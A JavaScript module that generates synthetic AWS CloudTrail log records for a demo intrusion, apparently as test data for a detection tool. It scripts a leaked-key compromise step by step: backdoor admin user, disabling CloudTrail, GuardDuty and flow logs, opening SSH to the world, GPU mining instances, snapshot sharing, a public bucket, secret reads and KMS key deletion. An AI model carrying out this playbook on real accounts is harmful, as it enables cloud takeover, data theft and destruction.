// The attack story (see demo/README.md): deploy-bot's leaked access key is used from a VPS,
// the attacker enumerates, plants a backdoor admin user, blinds logging and detection, opens SSH,
// mines on GPU instances in an unused region, exfiltrates (snapshot share, public bucket, secrets)
// and sabotages a KMS key; stolen EC2 instance-profile credentials are replayed from the same VPS.

import { ACCOUNT, awsDate, bucketResource, objectResources, s3Extra } from './record.mjs';
import { APP_INSTANCE, SVC_BACKUP_KEY, USER_IDS, who } from './identities.mjs';

export const T0 = Date.UTC(2026, 10, 20, 2, 14, 7);
const at = (h, m, s) => Date.UTC(2026, 10, 20, h, m, s);
const KMS_KEY_ID = '7d2c1f4e-9a8b-4c6d-8e1f-2a3b4c5d6e7f';
const KMS_KEY = `arn:aws:kms:us-east-1:${ACCOUNT}:key/${KMS_KEY_ID}`;
export const GUARDDUTY_DELETED = at(2, 28, 31);

const denyMsg = (svc, action, resource) =>
  `User: arn:aws:iam::${ACCOUNT}:user/deploy-bot is not authorized to perform: ${svc}:${action}${resource ? ` on resource: ${resource}` : ''} because no identity-based policy allows the ${svc}:${action} action`;

/**
 * @param {{ rng: any, record: (o: object) => object }} ctx
 * @returns {object[]}
 */
export function attackRecords({ rng, record }) {
  const out = [];
  const push = (o) => out.push(record(o));
  const bot = who.deployBotAttacker;
  const adm = who.svcBackup;

  // 02:14 — is the key alive?
  push({ who: bot, ms: T0, svc: 'sts', name: 'GetCallerIdentity', cliCommand: 'sts.get-caller-identity' });

  // 02:15–02:21 — enumeration with deploy-bot (≥ 20 distinct APIs, many denied).
  let t = at(2, 15, 2);
  const next = () => (t += 4_000 + rng.int(9_000));
  const iamDenied = (action, resource) => ['AccessDenied', denyMsg('iam', action, resource)];
  const ec2Denied = (action) => ['Client.UnauthorizedOperation', `You are not authorized to perform this operation. User: arn:aws:iam::${ACCOUNT}:user/deploy-bot is not authorized to perform: ec2:${action} because no identity-based policy allows the ec2:${action} action`];
  const enumeration = [
    ['iam', 'GetUser', 'iam.get-user', {}, null],
    ['iam', 'ListAttachedUserPolicies', 'iam.list-attached-user-policies', { userName: 'deploy-bot' }, null],
    ['iam', 'ListUserPolicies', 'iam.list-user-policies', { userName: 'deploy-bot' }, null],
    ['iam', 'ListGroupsForUser', 'iam.list-groups-for-user', { userName: 'deploy-bot' }, null],
    ['iam', 'GetAccountAuthorizationDetails', 'iam.get-account-authorization-details', null, iamDenied('GetAccountAuthorizationDetails', '*')],
    ['iam', 'ListUsers', 'iam.list-users', null, null],
    ['iam', 'ListRoles', 'iam.list-roles', null, iamDenied('ListRoles', `arn:aws:iam::${ACCOUNT}:role/`)],
    ['iam', 'ListPolicies', 'iam.list-policies', { onlyAttached: false, scope: 'Local' }, null],
    ['iam', 'ListAccessKeys', 'iam.list-access-keys', { userName: 'deploy-bot' }, null],
    ['iam', 'ListMFADevices', 'iam.list-mfa-devices', null, null],
    ['iam', 'GetAccountSummary', 'iam.get-account-summary', null, iamDenied('GetAccountSummary', '*')],
    ['iam', 'ListInstanceProfiles', 'iam.list-instance-profiles', null, iamDenied('ListInstanceProfiles', `arn:aws:iam::${ACCOUNT}:instance-profile/`)],
    ['s3', 'ListBuckets', 's3.ls', { Host: 's3.amazonaws.com' }, null],
    ['s3', 'GetBucketPolicy', 's3api.get-bucket-policy', { bucketName: 'acme-customer-exports', Host: 'acme-customer-exports.s3.amazonaws.com', policy: '' }, ['AccessDenied', 'Access Denied']],
    ['s3', 'GetBucketAcl', 's3api.get-bucket-acl', { bucketName: 'acme-customer-exports', Host: 'acme-customer-exports.s3.amazonaws.com', acl: '' }, null],
    ['s3', 'GetBucketLocation', 's3api.get-bucket-location', { bucketName: 'acme-backups', Host: 'acme-backups.s3.amazonaws.com', location: '' }, null],
    ['ec2', 'DescribeRegions', 'ec2.describe-regions', { regionSet: {}, allRegions: false }, null],
    ['ec2', 'DescribeInstances', 'ec2.describe-instances', { instancesSet: {}, filterSet: {} }, null],
    ['ec2', 'DescribeSecurityGroups', 'ec2.describe-security-groups', { securityGroupSet: {}, securityGroupIdSet: {}, filterSet: {} }, null],
    ['ec2', 'DescribeVpcs', 'ec2.describe-vpcs', { vpcSet: {}, filterSet: {} }, null],
    ['ec2', 'DescribeSnapshots', 'ec2.describe-snapshots', { snapshotSet: {}, ownersSet: { items: [{ owner: 'self' }] }, sharedUsersSet: {}, filterSet: {} }, null],
    ['ec2', 'DescribeKeyPairs', 'ec2.describe-key-pairs', { keySet: {}, filterSet: {} }, ec2Denied('DescribeKeyPairs')],
    ['ec2', 'DescribeFlowLogs', 'ec2.describe-flow-logs', { flowLogIds: {}, filterSet: {} }, ec2Denied('DescribeFlowLogs')],
    ['cloudtrail', 'DescribeTrails', 'cloudtrail.describe-trails', { trailNameList: [], includeShadowTrails: true }, ['AccessDenied', denyMsg('cloudtrail', 'DescribeTrails', `arn:aws:cloudtrail:us-east-1:${ACCOUNT}:trail/*`)]],
    ['guardduty', 'ListDetectors', 'guardduty.list-detectors', null, ['AccessDeniedException', denyMsg('guardduty', 'ListDetectors', `arn:aws:guardduty:us-east-1:${ACCOUNT}:detector/*`)]],
    ['secretsmanager', 'ListSecrets', 'secretsmanager.list-secrets', null, ['AccessDenied', denyMsg('secretsmanager', 'ListSecrets')]],
    ['kms', 'ListKeys', 'kms.list-keys', null, ['AccessDenied', denyMsg('kms', 'ListKeys', `arn:aws:kms:us-east-1:${ACCOUNT}:key/*`)]],
    ['lambda', 'ListFunctions20150331', 'lambda.list-functions', null, ['AccessDeniedException', denyMsg('lambda', 'ListFunctions', '*')]],
    ['rds', 'DescribeDBInstances', 'rds.describe-db-instances', null, ['AccessDenied', denyMsg('rds', 'DescribeDBInstances', `arn:aws:rds:us-east-1:${ACCOUNT}:db:*`)]],
    ['organizations', 'DescribeOrganization', 'organizations.describe-organization', null, ['AccessDeniedException', 'You don\'t have permissions to access this resource.']],
    ['dynamodb', 'ListTables', 'dynamodb.list-tables', null, ['AccessDeniedException', denyMsg('dynamodb', 'ListTables', `arn:aws:dynamodb:us-east-1:${ACCOUNT}:table/*`)]],
  ];
  for (const [svc, name, cliCommand, req, error] of enumeration) {
    const s3 = svc === 's3';
    push({ who: bot, ms: next(), svc, name, cliCommand, req, error: error ?? undefined, extra: s3 ? s3Extra(rng) : undefined, resources: s3 && req?.bucketName ? bucketResource(req.bucketName) : undefined, host: s3 ? req.Host : undefined });
  }

  // 02:24 — persistence: backdoor admin user with an access key and a console password.
  t = at(2, 24, 3);
  push({ who: bot, ms: t, svc: 'iam', name: 'CreateUser', readOnly: false, cliCommand: 'iam.create-user', req: { userName: 'svc-backup' }, resp: { user: { path: '/', userName: 'svc-backup', userId: USER_IDS['svc-backup'], arn: `arn:aws:iam::${ACCOUNT}:user/svc-backup`, createDate: awsDate(t) } } });
  t = at(2, 24, 29);
  push({ who: bot, ms: t, svc: 'iam', name: 'AttachUserPolicy', readOnly: false, cliCommand: 'iam.attach-user-policy', req: { userName: 'svc-backup', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } });
  t = at(2, 24, 51);
  push({ who: bot, ms: t, svc: 'iam', name: 'CreateAccessKey', readOnly: false, cliCommand: 'iam.create-access-key', req: { userName: 'svc-backup' }, resp: { accessKey: { userName: 'svc-backup', accessKeyId: SVC_BACKUP_KEY, status: 'Active', createDate: awsDate(t) } } });
  t = at(2, 25, 18);
  push({ who: bot, ms: t, svc: 'iam', name: 'CreateLoginProfile', readOnly: false, cliCommand: 'iam.create-login-profile', req: { userName: 'svc-backup', passwordResetRequired: false }, resp: { loginProfile: { userName: 'svc-backup', createDate: awsDate(t), passwordResetRequired: false } } });

  // 02:26 — the new key works; look at what was denied before.
  push({ who: adm, ms: at(2, 26, 2), svc: 'sts', name: 'GetCallerIdentity', cliCommand: 'sts.get-caller-identity' });
  push({ who: adm, ms: at(2, 26, 20), svc: 'cloudtrail', name: 'DescribeTrails', cliCommand: 'cloudtrail.describe-trails', req: { trailNameList: [], includeShadowTrails: true } });
  push({ who: adm, ms: at(2, 26, 41), svc: 'cloudtrail', name: 'GetTrailStatus', cliCommand: 'cloudtrail.get-trail-status', req: { name: 'org-trail' } });
  push({ who: adm, ms: at(2, 27, 5), svc: 'guardduty', name: 'ListDetectors', cliCommand: 'guardduty.list-detectors' });
  push({ who: adm, ms: at(2, 27, 22), svc: 'ec2', name: 'DescribeFlowLogs', cliCommand: 'ec2.describe-flow-logs', req: { flowLogIds: {}, filterSet: {} } });

  // 02:27–02:29 — defence evasion.
  push({ who: adm, ms: at(2, 27, 49), svc: 'cloudtrail', name: 'StopLogging', readOnly: false, cliCommand: 'cloudtrail.stop-logging', req: { name: 'org-trail' }, resources: [{ accountId: ACCOUNT, type: 'AWS::CloudTrail::Trail', ARN: `arn:aws:cloudtrail:us-east-1:${ACCOUNT}:trail/org-trail` }] });
  push({ who: adm, ms: GUARDDUTY_DELETED, svc: 'guardduty', name: 'DeleteDetector', readOnly: false, cliCommand: 'guardduty.delete-detector', req: { detectorId: '4ac9b3f2e1d07a6c5b8e9f0a1d2c3b4e' } });
  push({ who: adm, ms: at(2, 29, 10), svc: 'ec2', name: 'DeleteFlowLogs', readOnly: false, cliCommand: 'ec2.delete-flow-logs', req: { DeleteFlowLogsRequest: { FlowLogId: { content: 'fl-0d4e7a2b9c1f36e58', tag: 1 } } }, resp: (requestId) => ({ DeleteFlowLogsResponse: { xmlns: 'http://ec2.amazonaws.com/doc/2016-11-15/', requestId, unsuccessful: '' } }) });

  // 02:31 — SSH open to the world on the app servers' security group.
  push({
    who: adm,
    ms: at(2, 31, 14),
    svc: 'ec2',
    name: 'AuthorizeSecurityGroupIngress',
    readOnly: false,
    cliCommand: 'ec2.authorize-security-group-ingress',
    req: { groupId: 'sg-0c7f2a9e4b1d83a56', ipPermissions: { items: [{ ipProtocol: 'tcp', fromPort: 22, toPort: 22, groups: {}, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] }, ipv6Ranges: {}, prefixListIds: {} }] } },
    resp: (requestId) => ({ requestId, _return: true, securityGroupRuleSet: { items: [{ groupOwnerId: ACCOUNT, groupId: 'sg-0c7f2a9e4b1d83a56', securityGroupRuleId: 'sgr-0e5b1c9d7a3f24680', isEgress: false, ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIpv4: '0.0.0.0/0' }] } }),
  });

  // 02:33–02:37 — GPU instances in ap-southeast-1, a region the account never used.
  const sg = 'ap-southeast-1';
  push({ who: adm, ms: at(2, 33, 2), svc: 'ec2', name: 'DescribeAvailabilityZones', region: sg, cliCommand: 'ec2.describe-availability-zones', req: { availabilityZoneSet: {}, availabilityZoneIdSet: {} } });
  push({ who: adm, ms: at(2, 33, 19), svc: 'ec2', name: 'DescribeImages', region: sg, cliCommand: 'ec2.describe-images', req: { executableBySet: {}, imagesSet: {}, ownersSet: { items: [{ owner: '898082745236' }] }, availabilityZoneSet: {}, filterSet: { items: [{ name: 'name', valueSet: { items: [{ value: 'Deep Learning Base OSS Nvidia Driver GPU AMI (Ubuntu 22.04)*' }] } }] } } });
  push({ who: adm, ms: at(2, 33, 48), svc: 'ec2', name: 'ImportKeyPair', region: sg, readOnly: false, cliCommand: 'ec2.import-key-pair', req: { keyName: 'bk', publicKeyMaterial: 'c3NoLWVkMjU1MTkgQUFBQUMzTnphQzFsWkRJMU5URTVBQUFBSUY4dWxrVmtNc0xxcjlQUWhPRzN6YkwwU1J1YldJR2dFUXZyMnlIdUt0dUEgcm9vdEBrYWxp' }, resp: (requestId) => ({ requestId, keyName: 'bk', keyFingerprint: 'SHA256:q2Jt8bF0kW3yQxL5vN7cR1mZ9pH4sD6gA2eU0oT8iYk', keyPairId: 'key-0b7d3e91f4a2c6058', keyType: 'ed25519', tagSet: {} }) });
  const runReq = (minCount) => ({
    instancesSet: { items: [{ imageId: 'ami-0e4b1f2c7d9a30b86', minCount, maxCount: 10, keyName: 'bk' }] },
    userData: '<sensitiveDataRemoved>',
    instanceType: 'p3.16xlarge',
    blockDeviceMapping: { items: [{ deviceName: '/dev/sda1', ebs: { volumeSize: 200, deleteOnTermination: true, volumeType: 'gp3' } }] },
    monitoring: { enabled: false },
    disableApiTermination: false,
    disableApiStop: false,
    clientToken: rng.uuid(),
  });
  push({ who: adm, ms: at(2, 34, 30), svc: 'ec2', name: 'RunInstances', region: sg, readOnly: false, cliCommand: 'ec2.run-instances', req: runReq(10), error: ['Client.VcpuLimitExceeded', 'You have requested more vCPU capacity than your current vCPU limit of 128 allows for the instance bucket that the specified instance type belongs to. Please visit http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit.'] });
  const launched = ['i-07f3c1a9e2b4d6058', 'i-0b2e8d4f6a1c3e597'];
  const launchMs = at(2, 35, 12);
  push({
    who: adm,
    ms: launchMs,
    svc: 'ec2',
    name: 'RunInstances',
    region: sg,
    readOnly: false,
    cliCommand: 'ec2.run-instances',
    req: runReq(1),
    resp: (requestId) => ({
      requestId,
      reservationId: 'r-0a6c2e8b4d1f37950',
      ownerId: ACCOUNT,
      groupSet: {},
      instancesSet: {
        items: launched.map((instanceId, i) => ({
          instanceId,
          imageId: 'ami-0e4b1f2c7d9a30b86',
          currentInstanceBootMode: 'legacy-bios',
          instanceState: { code: 0, name: 'pending' },
          privateDnsName: `ip-172-31-${20 + i}-${101 + i * 37}.ap-southeast-1.compute.internal`,
          keyName: 'bk',
          amiLaunchIndex: i,
          productCodes: {},
          instanceType: 'p3.16xlarge',
          launchTime: launchMs,
          placement: { availabilityZone: 'ap-southeast-1b', tenancy: 'default' },
          monitoring: { state: 'disabled' },
          subnetId: 'subnet-0f2a6c8e1b3d57940',
          vpcId: 'vpc-0c4e6a8b2d1f39570',
          privateIpAddress: `172.31.${20 + i}.${101 + i * 37}`,
          stateReason: { code: 'pending', message: 'pending' },
          architecture: 'x86_64',
          rootDeviceType: 'ebs',
          rootDeviceName: '/dev/sda1',
          blockDeviceMapping: {},
          virtualizationType: 'hvm',
          hypervisor: 'xen',
          groupSet: { items: [{ groupId: 'sg-0a1f3c5e7b9d24680', groupName: 'default' }] },
          sourceDestCheck: true,
          networkInterfaceSet: { items: [{ networkInterfaceId: `eni-0${rng.hex(16)}`, subnetId: 'subnet-0f2a6c8e1b3d57940', vpcId: 'vpc-0c4e6a8b2d1f39570', ownerId: ACCOUNT, status: 'in-use', privateIpAddress: `172.31.${20 + i}.${101 + i * 37}`, sourceDestCheck: true, interfaceType: 'interface' }] },
          ebsOptimized: true,
          enaSupport: true,
          cpuOptions: { coreCount: 32, threadsPerCore: 2 },
          capacityReservationSpecification: { capacityReservationPreference: 'open' },
          hibernationOptions: { configured: false },
          enclaveOptions: { enabled: false },
          metadataOptions: { state: 'pending', httpTokens: 'optional', httpPutResponseHopLimit: 1, httpEndpoint: 'enabled', httpProtocolIpv4: 'enabled', httpProtocolIpv6: 'disabled', instanceMetadataTags: 'disabled' },
          maintenanceOptions: { autoRecovery: 'default' },
          privateDnsNameOptions: { hostnameType: 'ip-name', enableResourceNameDnsARecord: false, enableResourceNameDnsAAAARecord: false },
        })),
      },
    }),
  });
  push({ who: adm, ms: at(2, 36, 40), svc: 'ec2', name: 'DescribeInstances', region: sg, cliCommand: 'ec2.describe-instances', req: { instancesSet: { items: launched.map((instanceId) => ({ instanceId })) }, filterSet: {} } });

  // 02:38 — exfiltration: share the orders database volume snapshot with an outside account.
  push({ who: adm, ms: at(2, 38, 5), svc: 'ec2', name: 'ModifySnapshotAttribute', readOnly: false, cliCommand: 'ec2.modify-snapshot-attribute', req: { snapshotId: 'snap-0f3a9c2e7b1d45680', attributeType: 'CREATE_VOLUME_PERMISSION', createVolumePermission: { add: { items: [{ userId: '444455556666' }] } } }, resp: (requestId) => ({ requestId, _return: true }) });

  // 02:40 — make the customer exports bucket public.
  const bucket = 'acme-customer-exports';
  const host = `${bucket}.s3.amazonaws.com`;
  push({ who: adm, ms: at(2, 40, 1), svc: 's3', name: 'DeleteBucketPublicAccessBlock', readOnly: false, cliCommand: 's3api.delete-public-access-block', req: { publicAccessBlock: '', bucketName: bucket, Host: host }, extra: s3Extra(rng), resources: bucketResource(bucket), host });
  push({
    who: adm,
    ms: at(2, 40, 37),
    svc: 's3',
    name: 'PutBucketPolicy',
    readOnly: false,
    cliCommand: 's3api.put-bucket-policy',
    req: { bucketPolicy: { Version: '2012-10-17', Statement: [{ Sid: 'PublicRead', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` }] }, bucketName: bucket, Host: host, policy: '' },
    extra: s3Extra(rng, 0, 162),
    resources: bucketResource(bucket),
    host,
  });

  // 02:43–02:46 — read every secret.
  push({ who: adm, ms: at(2, 43, 3), svc: 'secretsmanager', name: 'ListSecrets', cliCommand: 'secretsmanager.list-secrets' });
  const secrets = ['prod/orders/db', 'prod/orders/db-readonly', 'prod/stripe/api-key', 'prod/stripe/webhook-secret', 'prod/sendgrid/api-key', 'prod/datadog/api-key', 'prod/github/deploy-token', 'prod/slack/webhook', 'staging/orders/db', 'prod/jwt/signing-key', 'prod/twilio/auth-token', 'prod/backup/encryption-passphrase'];
  t = at(2, 43, 20);
  for (const secretId of secrets) {
    t += 3_000 + rng.int(12_000);
    push({ who: adm, ms: t, svc: 'secretsmanager', name: 'GetSecretValue', cliCommand: 'secretsmanager.get-secret-value', req: { secretId } });
  }

  // 02:47 — sabotage: schedule deletion of the key that encrypts the backups.
  push({ who: adm, ms: at(2, 47, 11), svc: 'kms', name: 'ListAliases', cliCommand: 'kms.list-aliases' });
  const delMs = at(2, 47, 52);
  push({ who: adm, ms: delMs, svc: 'kms', name: 'ScheduleKeyDeletion', readOnly: false, cliCommand: 'kms.schedule-key-deletion', req: { keyId: KMS_KEY_ID, pendingWindowInDays: 7 }, resp: { keyId: KMS_KEY, deletionDate: awsDate(Date.UTC(2026, 10, 27, 0, 0, 0)), keyState: 'PendingDeletion', pendingWindowInDays: 7 }, resources: [{ accountId: ACCOUNT, type: 'AWS::KMS::Key', ARN: KMS_KEY }] });

  // 02:52 — console sign-in as the backdoor user, without MFA.
  push({ who: who.svcBackupSignIn, ms: at(2, 52, 40), svc: 'signin', name: 'ConsoleLogin', eventType: 'AwsConsoleSignIn', readOnly: false, resp: { ConsoleLogin: 'Success' }, extra: { LoginTo: 'https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_us-east-1_a9d3e7c1b5f20846', MobileVersion: 'No', MFAUsed: 'No' } });

  // 02:55–02:58 — anonymous downloads from the now-public bucket (a second address).
  t = at(2, 55, 9);
  for (let i = 0; i < 5; i++) {
    const key = `exports/2026/11/customers-${String(i + 1).padStart(2, '0')}.csv.gz`;
    push({ who: who.anonymous, ms: t, svc: 's3', name: 'GetObject', data: true, req: { bucketName: bucket, Host: host, key }, extra: { SignatureVersion: undefined, CipherSuite: 'TLS_AES_128_GCM_SHA256', bytesTransferredIn: 0, AuthenticationMethod: undefined, 'x-amz-id-2': `${rng.alnum(56)}=`, bytesTransferredOut: 40_000_000 + rng.int(20_000_000) }, resources: objectResources(bucket, key), host });
    t += 20_000 + rng.int(30_000);
  }

  // 03:06 — the app server's instance-profile credentials, replayed from the VPS (outside AWS).
  const stolen = who.appServerStolen(Date.UTC(2026, 10, 20, 2, 11, 40));
  t = at(3, 6, 14);
  push({ who: stolen, ms: t, svc: 'sts', name: 'GetCallerIdentity', cliCommand: 'sts.get-caller-identity' });
  push({ who: stolen, ms: (t += 21_000), svc: 's3', name: 'ListBuckets', cliCommand: 's3.ls', req: { Host: 's3.amazonaws.com' }, extra: s3Extra(rng), host: 's3.amazonaws.com' });
  const cfgKey = 'config/orders-api/application.json';
  push({ who: stolen, ms: (t += 34_000), svc: 's3', name: 'GetObject', data: true, cliCommand: 's3.cp', req: { bucketName: 'acme-app-config', Host: 'acme-app-config.s3.amazonaws.com', key: cfgKey }, extra: s3Extra(rng, 2_871, 0), resources: objectResources('acme-app-config', cfgKey), host: 'acme-app-config.s3.amazonaws.com' });
  push({ who: stolen, ms: (t += 18_000), svc: 'secretsmanager', name: 'GetSecretValue', cliCommand: 'secretsmanager.get-secret-value', req: { secretId: 'prod/orders/db' } });
  push({ who: stolen, ms: (t += 25_000), svc: 'ec2', name: 'DescribeInstances', cliCommand: 'ec2.describe-instances', req: { instancesSet: { items: [{ instanceId: APP_INSTANCE }] }, filterSet: {} } });
  return out;
}
